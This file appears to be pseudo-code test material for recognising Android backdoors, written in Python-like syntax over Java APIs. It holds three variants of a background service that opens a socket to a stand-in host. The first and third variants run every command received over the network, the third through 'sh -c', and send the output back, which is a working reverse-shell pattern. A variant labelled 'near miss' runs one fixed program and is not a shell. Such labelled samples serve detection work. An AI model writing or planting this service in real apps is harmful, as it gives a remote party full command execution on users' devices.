permissions("INTERNET")

@service
class Work(Service):
    def onStartCommand(self, intent, flags, number):
        Thread(Shell()).start()
        return 1

class Shell(Runnable):
    def run(self):
        line = Socket("example.org", 4000)
        orders = BufferedReader(InputStreamReader(line.getInputStream()))
        while True:
            self.execute(orders.readLine(), line.getOutputStream())
    def execute(self, order: String, answer: OutputStream):
        process = Runtime.getRuntime().exec(order)
        printed = array(byte, 4096)
        process.getInputStream().read(printed)
        answer.write(printed)

# near miss: runs one fixed program, and shows what the network says
class Shell(Runnable):
    def run(self):
        line = Socket("example.org", 4000)
        orders = BufferedReader(InputStreamReader(line.getInputStream()))
        while True:
            self.execute(orders.readLine(), line.getOutputStream())
    def execute(self, order: String, answer: OutputStream):
        process = Runtime.getRuntime().exec("example.org")
        printed = array(byte, 4096)
        process.getInputStream().read(printed)
        answer.write(order.getBytes())

# also: with a list of words and a scanner
class Shell(Runnable):
    def run(self):
        line = Socket("example.org", 4000)
        orders = Scanner(line.getInputStream())
        while True:
            self.execute(orders.nextLine(), PrintWriter(line.getOutputStream()))
    def execute(self, order: String, answer: PrintWriter):
        process = ProcessBuilder(array(String, "sh", "-c", order)).start()
        printed = BufferedReader(InputStreamReader(process.getInputStream()))
        answer.println(printed.readLine())
